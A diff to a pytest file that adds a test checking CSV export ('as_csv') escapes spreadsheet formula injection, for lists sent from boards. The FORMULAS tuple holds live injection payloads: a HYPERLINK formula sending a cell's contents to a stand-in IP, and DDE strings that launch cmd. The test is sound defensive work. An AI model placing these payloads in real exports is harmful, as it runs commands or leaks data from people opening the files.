@@ -9,7 +9,7 @@ from typing import Any
 
 import pytest
 
-from goldenthread.foundation.csv_rows import Row, RowError, write_bad_rows
+from goldenthread.foundation.csv_rows import Row, RowError, as_csv, write_bad_rows
 from goldenthread.people.encoded_files import quoted, unquoted, write_rows
 
 FORMULAS = ('=HYPERLINK("http://192.0.2.1/"&A1)', "=cmd|'/C calc'!A0", "+1+cmd|' /C calc'!A0", "-1+cmd|' /C calc'!A0",
@@ -47,6 +47,13 @@ def test_what_is_no_formula_stays_as_it_is(tmp_path: Path, value: str) -> None:
         tmp_path / "bad.csv", ["name"], [Row(2, {"name": value})], [RowError(2, "name", "wrong")]
     )
     assert list(csv.reader(io.StringIO(path.read_text("utf-8-sig"), newline="")))[1][0] == value
+
+
+@pytest.mark.parametrize("value", FORMULAS)
+def test_lists_that_are_sent_run_nothing(value: str) -> None:
+    """What boards and other lists send, in a heading and in a row."""
+    rows = list(csv.reader(io.StringIO(as_csv([[value], [value, "x"]]).decode("utf-8-sig"), newline="")))
+    assert [len(row) for row in rows] == [1, 2] and not [cell for row in rows for cell in row if runs(cell)]
 
 
 @pytest.mark.parametrize("value", FORMULAS)
